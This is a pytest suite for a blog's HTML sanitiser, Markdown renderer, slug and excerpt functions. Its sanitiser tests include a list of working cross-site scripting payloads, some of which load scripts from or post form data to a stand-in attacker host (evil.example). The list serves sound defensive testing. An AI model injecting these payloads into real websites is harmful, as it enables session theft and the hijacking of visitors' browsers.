"""Unit tests for blog.content: sanitising, rendering, slugs and excerpts."""

from __future__ import annotations

import copy
import random
import re
import unicodedata

import pytest
from bleach import html5lib_shim

from blog import content
from blog.content import (
    clean_html,
    excerpt,
    headings_below,
    markdown_nesting,
    nesting_depth,
    plain_text,
    render_markdown,
    reopened_elements,
    shows_nothing,
    slugify,
    table_cells,
    too_many_elements,
)

from xss import VECTORS, executable_parts

# Raw HTML payloads that must be flagged before cleaning: proof that the judge can fail.
RAW_HTML_VECTORS = [
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    '<script src="https://evil.example/x.js"></script>',
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=x OnErRoR=alert(1)>",
    "<svg onload=alert(1)>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    '<div onmouseover="alert(1)">hover</div>',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="&#x6A;avascript:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<img src="javascript:alert(1)">',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<form action="javascript:alert(1)"><input type=submit></form>',
    '<form><button formaction="javascript:alert(1)">x</button></form>',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="javascript:alert(1)">',
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<link rel="import" href="https://evil.example/x.html">',
    '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<iframe srcdoc="&lt;img src=x onerror=alert(1)&gt;"></iframe>',
    '<div style="background:url(javascript:alert(1))">x</div>',
    '<div style="width: expression(alert(1))">x</div>',
    "<style>@import 'javascript:alert(1)';</style>",
    "<template><script>alert(1)</script></template>",
    "| a | b |\n|---|---|\n| <img src=x onerror=alert(1)> | <script>alert(1)</script> |",
]


def _attrs(html: str, tag: str) -> list[str]:
    """Return the attribute strings of every <tag ...> in html."""
    return re.findall(rf"<{tag}\b([^>]*)>", html)


# --- sanitising -----------------------------------------------------------------------


def test_vector_list_is_large_and_unique() -> None:
    assert len(VECTORS) >= 70
    assert len(set(VECTORS)) == len(VECTORS)


@pytest.mark.parametrize("vector", VECTORS, ids=[f"v{i}" for i in range(len(VECTORS))])
def test_rendered_vector_is_not_executable(vector: str) -> None:
    assert executable_parts(render_markdown(vector)) == []


@pytest.mark.parametrize("vector", VECTORS, ids=[f"v{i}" for i in range(len(VECTORS))])
def test_cleaned_vector_is_not_executable(vector: str) -> None:
    assert executable_parts(clean_html(vector)) == []


@pytest.mark.parametrize("vector", VECTORS, ids=[f"v{i}" for i in range(len(VECTORS))])
def test_cleaning_is_stable(vector: str) -> None:
    # Re-parsing stored output must not mutate it into something else (mutation XSS).
    rendered = render_markdown(vector)
    assert clean_html(rendered) == rendered
    assert clean_html(clean_html(vector)) == clean_html(vector)


@pytest.mark.parametrize("vector", RAW_HTML_VECTORS)
def test_judge_flags_raw_vector(vector: str) -> None:
    assert vector in VECTORS
    assert executable_parts(vector) != []


def test_judge_flags_most_vectors_raw() -> None:
    assert len(RAW_HTML_VECTORS) >= 20
    assert sum(1 for vector in VECTORS if executable_parts(vector)) >= 60


def test_judge_accepts_a_normal_page() -> None:
    page = """<!doctype html><html lang="ar" dir="rtl"><head><meta charset="utf-8">
    <meta http-equiv="content-type" content="text/html; charset=utf-8">
    <title>الأخبار &lt;script&gt;</title>
    <link rel="stylesheet" href="/static/site.css"><link rel="icon" href="/static/f.ico">
    <link rel="canonical" href="https://news.example/a/1">
    <link rel="alternate" type="application/atom+xml" href="/feed.xml"></head>
    <body><form method="post" action="/login"><button type="submit">دخول</button></form>
    <a href="https://x.example" rel="noopener nofollow">x</a><a href="mailto:a@b.example">m</a>
    <img src="https://x.example/a.png" alt=""><a href="#top">top</a></body></html>"""
    assert executable_parts(page) == []


@pytest.mark.parametrize(
    "page",
    [
        '<script src="/static/app.js"></script>',
        '<link rel="stylesheet" href="https://cdn.example/x.css">',
        '<link rel="stylesheet" href="//cdn.example/x.css">',
        '<form action="https://evil.example/steal"></form>',
        '<meta http-equiv="set-cookie" content="a=b">',
        '<img srcset="/a.png 1x, data:image/png;base64,AA 2x">',
        '<a href="\x00javascript:alert(1)">x</a>',
        "<p style='color: \\72 ed'>x</p>",
    ],
)
def test_judge_flags_page_constructs(page: str) -> None:
    assert executable_parts(page) != []


def test_script_and_style_content_removed_entirely() -> None:
    html = clean_html("<p>a<script>alert(1)</script>b<style>p{color:red}</style>c</p>")
    assert html == "<p>abc</p>"
    assert "alert" not in render_markdown("x <script>alert(1)</script>\n\n<script>\nalert(2)\n")
    assert "alert" not in clean_html("<svg><script>alert(1)</script></svg><template>alert(2)")


def test_disallowed_tags_are_stripped_keeping_text() -> None:
    assert clean_html("<marquee>news</marquee> <font color=red>flash</font>") == "news flash"


# --- allowed markup -------------------------------------------------------------------


def test_markdown_basics_survive() -> None:
    html = render_markdown(
        "# Title\n\n## Sub\n\nSome *em*, **strong** and ~~gone~~ text.\n\n"
        "- one\n- two\n\n1. first\n2. second\n\n> quoted\n\n---\n"
    )
    for fragment in [
        "<h2>Title</h2>",
        "<h3>Sub</h3>",
        "<em>em</em>",
        "<strong>strong</strong>",
        "<s>gone</s>",
        "<li>one</li>",
        "<ol>",
        "<blockquote>",
        "<hr>",
    ]:
        assert fragment in html


def test_the_body_never_holds_an_h1_the_title_is_the_pages_one() -> None:
    assert render_markdown("# Section\n\ntext") == "<h2>Section</h2>\n<p>text</p>\n"
    assert clean_html('<h1 dir="rtl" lang="ar">عنوان</h1>') == '<h2 dir="rtl" lang="ar">عنوان</h2>'
    # Every level moves with the h1, so a section keeps its parts under it.
    outline = render_markdown("# A\n\n## B\n\n###### F")
    assert outline == "<h2>A</h2>\n<h3>B</h3>\n<h6>F</h6>\n"
    # Without an h1, the author's levels stay as they are.
    assert clean_html("<h2>Part</h2><h3>Deeper</h3>") == "<h2>Part</h2><h3>Deeper</h3>"


def test_code_blocks_are_escaped() -> None:
    html = render_markdown('```python\nprint("<script>alert(1)</script>")\n```\n\n`<b>x</b>`')
    assert '<pre><code class="language-python">' in html
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html
    assert "<code>&lt;b&gt;x&lt;/b&gt;</code>" in html
    assert executable_parts(html) == []


def test_code_class_only_for_languages() -> None:
    assert clean_html('<code class="evil">x</code>') == "<code>x</code>"
    kept = '<code class="language-c++">x</code>'
    assert clean_html(kept) == kept


def test_markdown_table_with_alignment() -> None:
    html = render_markdown("| a | b |\n|:--|--:|\n| 1 | 2 |\n")
    assert "<table>" in html and "<thead>" in html and "<tbody>" in html
    assert '<th align="left">a</th>' in html
    assert '<td align="right">2</td>' in html
    assert "style" not in html


def test_table_attributes() -> None:
    html = clean_html(
        '<table><caption>c</caption><tr><td colspan="2" rowspan="x" align="justify" '
        'style="color:red">v</td></tr><tfoot></tfoot></table>'
    )
    assert '<td colspan="2">v</td>' in html
    assert "<caption>c</caption>" in html


def test_figure_and_arabic_paragraph_survive() -> None:
    html = render_markdown(
        '<figure><img src="https://img.example/a.jpg" alt="صورة" width="640" height="480">'
        "<figcaption>تعليق</figcaption></figure>\n\n"
        '<p dir="rtl" lang="ar">هذا نص عربي</p>\n'
    )
    assert (
        '<figure><img src="https://img.example/a.jpg" alt="صورة" width="640" height="480">'
        "<figcaption>تعليق</figcaption></figure>"
    ) in html
    assert '<p dir="rtl" lang="ar">هذا نص عربي</p>' in html


def test_dir_and_lang_values_are_restricted() -> None:
    assert clean_html('<p dir="evil" lang="en-GB">x</p>') == '<p lang="en-GB">x</p>'
    assert clean_html('<p dir="ltr" lang="x y">x</p>') == '<p dir="ltr">x</p>'
    assert clean_html('<span id="a" class="b" style="color:red" title="t">x</span>') == (
        "<span>x</span>"
    )


def test_images_keep_only_web_sources() -> None:
    kept = render_markdown("![alt](https://img.example/a.png)")
    assert '<img src="https://img.example/a.png" alt="alt">' in kept
    for source in [
        "![x](data:image/png;base64,iVBORw0KGgo=)",
        '<img src="data:image/png;base64,iVBORw0KGgo=" alt="x">',
        '<img src="javascript:alert(1)">',
        '<img src="/relative.png">',
        '<img src="//img.example/a.png">',
        '<img src="ftp://img.example/a.png">',
    ]:
        assert "<img" not in render_markdown(source), source


def test_link_rel_policy() -> None:
    html = render_markdown(
        "[ext](https://news.example/a) [rel](/articles/1) [frag](#top) [mail](mailto:a@b.example)"
    )
    assert '<a href="https://news.example/a" rel="noopener nofollow">ext</a>' in html
    assert '<a href="/articles/1">rel</a>' in html
    assert '<a href="#top">frag</a>' in html
    assert '<a href="mailto:a@b.example">mail</a>' in html


def test_links_lose_target_and_author_rel() -> None:
    html = clean_html(
        '<a href="http://x.example" target="_blank" rel="opener">a</a>'
        '<a href="/x" target="_blank" rel="opener">b</a>'
        '<a href="//x.example">c</a><a href="HTTPS://X.example" title="t">d</a>'
    )
    assert html == (
        '<a href="http://x.example" rel="noopener nofollow">a</a><a href="/x">b</a>'
        '<a href="//x.example" rel="noopener nofollow">c</a>'
        '<a href="HTTPS://X.example" title="t" rel="noopener nofollow">d</a>'
    )


def test_disallowed_link_schemes_are_dropped() -> None:
    assert clean_html('<a href="ftp://x.example/f">f</a>') == "<a>f</a>"
    assert clean_html('<a href="tel:+100">t</a>') == "<a>t</a>"


def test_inline_formatting_allowlist() -> None:
    source = (
        "<p><b>b</b><i>i</i><u>u</u><del>d</del><ins>n</ins><mark>m</mark><small>s</small>"
        "<sub>1</sub><sup>2</sup><q>q</q><cite>c</cite><kbd>k</kbd><samp>o</samp><br></p>"
        "<dl><dt>t</dt><dd>d</dd></dl><div><span>x</span></div>"
        '<ol start="3"><li>c</li></ol><abbr title="Hijri">AH</abbr>'
    )
    assert clean_html(source) == source


def test_empty_input() -> None:
    assert render_markdown("") == ""
    assert clean_html("") == ""


# --- slugify --------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("title", "slug"),
    [
        ("Türkiye'de Çığ Düştü: İki Köy Şaşkın", "turkiyede-cig-dustu-iki-koy-saskin"),
        ("ISPARTA’DA GÜNEŞ ENERJİSİ", "ispartada-gunes-enerjisi"),
        ("Hâlâ İnanılmaz: Kâğıt Üstünde Ödül", "hala-inanilmaz-kagit-ustunde-odul"),
        ("Crème brûlée à la Straße", "creme-brulee-a-la-strasse"),
        ("  --Hello,   World!!--  ", "hello-world"),
        ("snake_case and 2024", "snake-case-and-2024"),
    ],
)
def test_slugify_latin(title: str, slug: str) -> None:
    assert slugify(title) == slug


def test_slugify_decomposed_input() -> None:
    nfd = unicodedata.normalize("NFD", "Türkiye'de Çığ Düştü: İki Köy Şaşkın")
    assert slugify(nfd) == "turkiyede-cig-dustu-iki-koy-saskin"


def test_slugify_arabic_keeps_letters() -> None:
    assert slugify("الأخبار العاجلة اليوم") == "الأخبار-العاجلة-اليوم"


def test_slugify_arabic_drops_tashkeel_and_tatweel_and_maps_digits() -> None:
    assert slugify("قِمَّةُ الـــرياض ٢٠٢٤") == "قمة-الرياض-2024"
    assert slugify("عدد ۱۲۳") == "عدد-123"  # Extended Arabic-Indic (Persian) digits too


def test_slugify_mixed_arabic_latin() -> None:
    assert slugify("قمة G20 في الرياض: Summit") == "قمة-g20-في-الرياض-summit"


def test_slugify_ignores_invisible_marks() -> None:
    assert slugify("\u200fمرحبا\u200e World\u00ad") == "مرحبا-world"


@pytest.mark.parametrize("title", ["", "   ", "😀🎉", "!!! ??? ...", "—–-", "\u200f"])
def test_slugify_falls_back_to_article(title: str) -> None:
    assert slugify(title) == "article"


def test_slugify_cuts_on_a_hyphen() -> None:
    title = "One two three four five six seven"
    assert slugify(title, max_length=15) == "one-two-three"
    assert slugify(title, max_length=13) == "one-two-three"
    assert slugify("a" * 100) == "a" * 80
    assert slugify("abcdefghij klm", max_length=5) == "abcde"
    assert len(slugify("word " * 100)) <= 80


def test_slugify_rejects_non_positive_length() -> None:
    with pytest.raises(ValueError):
        slugify("x", max_length=0)


def test_slugify_random_strings() -> None:
    rng = random.Random(20240601)
    alphabet = (
        "abcXYZ019 -_'’.,:;!?/\\\t\n"
        "çğıİöşüÇĞÖŞÜâîû éñøß"
        "الأخبارإؤئة ًٌٍَُِّْـ٠١٩۴"
        "😀🎉\u200d\u200f\ufe0f\u0301"
        "Ωжनमस्ते中文"
    )
    for _ in range(200):
        text = "".join(rng.choice(alphabet) for _ in range(rng.randint(0, 60)))
        max_length = rng.randint(1, 90)
        slug = slugify(text, max_length=max_length)
        assert slug, text
        assert len(slug) <= max_length
        assert not slug.startswith("-") and not slug.endswith("-")
        assert "--" not in slug
        assert slug == slug.lower()
        assert not re.search(r"[\s'’.,:;!?/\\_]", slug)
        assert slugify(slug, max_length=max_length) == slug


# --- excerpt and plain_text -----------------------------------------------------------


def test_plain_text_collapses_whitespace_and_separates_blocks() -> None:
    html = "<h1>Title</h1><p>a  <strong>b</strong>\n\tc<br>d</p><ul><li>x</li><li>y</li></ul>"
    assert plain_text(html) == "Title a b c d x y"
    assert plain_text("<p>x &amp; y &lt;z&gt;</p>") == "x & y <z>"


def test_excerpt_short_text_is_untouched() -> None:
    assert excerpt("<p>Short   text.</p>") == "Short text."


def test_excerpt_cuts_on_word_boundary() -> None:
    html = "<p>The quick brown fox jumps over the lazy dog</p>"
    assert excerpt(html, max_length=20) == "The quick brown fox…"
    assert excerpt(html, max_length=16) == "The quick brown…"
    assert excerpt(html, max_length=15) == "The quick…"
    assert len(excerpt(html * 20)) <= 200


def test_excerpt_drops_trailing_punctuation_before_ellipsis() -> None:
    assert excerpt("<p>Hello, world and more</p>", max_length=8) == "Hello…"


def test_excerpt_long_word_is_cut_hard() -> None:
    assert excerpt("<p>" + "x" * 50 + "</p>", max_length=10) == "x" * 9 + "…"


def test_excerpt_arabic() -> None:
    html = "<p dir='rtl'>مرحبا بالعالم، هذا   نص عربي طويل جدا</p>"
    assert excerpt(html, max_length=20) == "مرحبا بالعالم، هذا…"


def test_excerpt_of_rendered_markdown() -> None:
    html = render_markdown("# Head\n\nBody *text* with `code`.\n\n- item")
    assert excerpt(html) == "Head Body text with code. item"


# --- titles readers can see ------------------------------------------------------------------


@pytest.mark.parametrize(
    "text",
    ["", " \t", "\u200f", "\u200e\u2066\u200b", "\u3164", "\u2800", "\ufe0f", "\u034f", "\u0301"],
)
def test_invisible_text_shows_nothing(text: str) -> None:
    assert shows_nothing(text)


@pytest.mark.parametrize("text", ["a", "\u200fخبر", "1", "!", "€", "\u3164x", "İ"])
def test_text_with_a_visible_character_shows_something(text: str) -> None:
    assert not shows_nothing(text)


def test_a_previews_headings_sit_under_its_title() -> None:
    body = '<h2 dir="rtl">A</h2><p>&lt;h2&gt; is text</p><h3>B</h3><h6>C</h6>'
    assert headings_below(body, 3) == (
        '<h4 dir="rtl">A</h4><p>&lt;h2&gt; is text</p><h5>B</h5><h6>C</h6>'
    )
    assert headings_below(body, 1) == body


def test_nesting_depth_counts_what_a_browser_would_nest() -> None:
    assert nesting_depth("Plain *Markdown*\n\n> quoted") == 0
    assert nesting_depth("<div><p>a<p>b<ul><li>c<li>d</ul></div>") == 2
    assert nesting_depth("<div><br><img src=x><hr/></div>" * 3) == 1
    assert nesting_depth("</div></div><div><span>x</span></div>") == 2
    assert nesting_depth("<div>" * 300) == 300
    assert nesting_depth("a < b and c > d, <3") == 0
    # "<div/>" opens a div like "<div>"; only inside svg and math does "/>" close.
    assert nesting_depth("<div/>" * 300) == 300
    assert nesting_depth("<svg><path/><g><path/></g></svg><math/>" * 300) == 2
    # Comments and raw text hold no elements.
    assert nesting_depth("<!-- <div><div> --><script>'<div>'</script><div-x>") == 0
    # Empty comments, and comments ended as browsers end them, hide nothing after them.
    for comment in ("<!-->", "<!--->", "<!-- x --!>", "<!---->"):
        assert nesting_depth(comment + "<div>" * 300 + "<!-- -->") == 300, comment


def test_markdown_nesting_counts_the_html_a_body_becomes() -> None:
    # Autolinks and code spans are tags in the source, not in the page.
    links = "<https://example.com/a> and `<span>` and `List<String>`\n\n" * 300
    assert markdown_nesting(links) == 1  # each link or code span within its paragraph
    assert markdown_nesting("Intro\n\n" + "<div><b>" * 150) == 300
    assert markdown_nesting("- a\n  - b\n") == 0  # Markdown's own nesting is capped


def test_markdown_nested_as_deep_as_an_article_may_loses_no_text() -> None:
    # At commonmark's own cap, the innermost items and the quoted line were left out.
    items = "".join("  " * level + f"- item{level}\n" for level in range(40))
    assert render_markdown(items).count("<li>") == 40
    assert "item39" in render_markdown(items)
    assert "<p>hello</p>" in render_markdown(">" * 60 + " hello")


def test_a_body_that_would_make_more_elements_than_an_article_holds_is_refused() -> None:
    rows = "|a|b|\n|-|-|\n" + "|1|2|\n" * 40_000  # two cells a row
    assert too_many_elements(markdown=rows) == (
        "the body's HTML would hold about 120,004 elements (paragraphs, list items, table"
        " cells, formatting tags left open and opened again in each block); keep it to"
        " 100,000 or fewer by closing the tags you open, or split it into several articles"
    )
    assert too_many_elements(html="<p>x</p>" * 100_001) is not None
    assert too_many_elements(html="<p>x</p>" * 100_000) is None
    # Counted on the source where rendering would make a million: markdown-it fills each
    # one-word row in to a header of a hundred columns, in each of nineteen tables.
    table = "|" + "a|" * 100 + "\n|" + "-|" * 100 + "\n" + "x\n" * 660
    assert table_cells(table) == len(re.findall("<t[hd]>", render_markdown(table))) == 66_100
    assert too_many_elements(markdown="\n".join([table] * 19)) is not None
    # Formatting left open is opened again in every block after it, as cleaning does.
    unclosed = "<p>" + "".join(f'<b title="{n}">' for n in range(150)) + "<p>x" * 40
    assert reopened_elements(unclosed) >= clean_html(unclosed).count("<") // 2 > 6_000
    assert too_many_elements(html=unclosed + "<p>x" * 1_000) is not None
    closed = "".join(f'<b title="{n}">x</b>' for n in range(150)) + "<p>x" * 1_000
    assert too_many_elements(html=closed) is None
    # A long article of prose is within it, and so is a table of 5,000 rows.
    assert too_many_elements(markdown="A line of a long story, *told* well.\n\n" * 3_000) is None
    assert too_many_elements(markdown="|a|b|c|\n|-|-|-|\n" + "|1|2|3|\n" * 5_000) is None


def test_the_sites_walk_of_a_body_cleans_it_exactly_as_html5libs_own() -> None:
    # content._Walker only numbers each parent's children once instead of scanning them;
    # what comes out must be byte for byte what bleach's own walker gives.
    stock = copy.copy(content._CLEANER)
    stock.walker = html5lib_shim.getTreeWalker("etree")
    rng = random.Random(7)
    pieces = [
        "<p>a <b>b</b> <a href='https://example.com/'>c</a> d</p>\n",
        "<ul><li>one <em>x</em><li>two<ul><li>deep <code>y</code></ul></ul>",
        "<table><tr><td>1<td><b>2</b></table>tail ",
        "<blockquote><p>q <i>r</i></p></blockquote><!-- note --><hr>",
        "<h1>T</h1><pre><code>\n  code\n</code></pre><div><span>s</span>t</div>",
        "text &amp; <script>alert(1)</script> more ",
    ]
    bodies = [*VECTORS, "".join(pieces) * 50]
    bodies += ["".join(rng.choice(pieces) for _ in range(200)) for _ in range(20)]
    for body in bodies:
        assert content._CLEANER.clean(body) == stock.clean(body), body[:200]
